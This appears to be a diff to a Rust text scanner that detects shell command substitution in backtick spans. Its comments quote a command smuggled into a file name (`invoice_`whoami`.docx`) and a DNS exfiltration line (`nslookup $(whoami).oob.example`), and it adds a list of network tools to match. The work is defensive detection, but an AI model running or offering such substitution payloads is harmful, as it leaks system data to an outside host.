@@ -4047,7 +4047,26 @@ fn scan_segment(
                 let chained = close.is_some() && end + 1 < seg_end && b[end + 1] == b'`';
                 let whole = prev.is_none()
                     && close.is_some_and(|c| text[i + 1 + c + 1..seg_end].trim().is_empty());
-                let glued = i > seg_start && b[i - 1].is_ascii_alphanumeric();
+                // `invoice_`whoami`.docx`: glued inside a file or host name.
+                let glued = i > seg_start
+                    && (b[i - 1].is_ascii_alphanumeric()
+                        || (matches!(b[i - 1], b'_' | b'-' | b'.' | b'@')
+                            && i - 1 > seg_start
+                            && b[i - 2].is_ascii_alphanumeric()));
+                // `nslookup $(whoami).oob.example`: a lookup whose host name
+                // is built by a substitution sends the output out over DNS
+                // or HTTP, in a code span as anywhere.
+                let exfil = close.is_some() && {
+                    let inner = &b[i + 1..end];
+                    let first = inner
+                        .iter()
+                        .take_while(|c| c.is_ascii_alphanumeric())
+                        .count();
+                    ["nslookup", "dig", "host", "ping", "curl", "wget"]
+                        .iter()
+                        .any(|c| inner[..first].eq_ignore_ascii_case(c.as_bytes()))
+                        && memchr::memmem::find(inner, b"$(").is_some()
+                };
                 // "install it as `gmake'": GNU and TeX quote a word with a
                 // backtick and an apostrophe; the next backtick opens
                 // another quote.
@@ -4080,6 +4099,7 @@ fn scan_segment(
                 let shell = whole
                     || chained
                     || glued
+                    || exfil
                     || matches!(
                         prev,
                         Some(
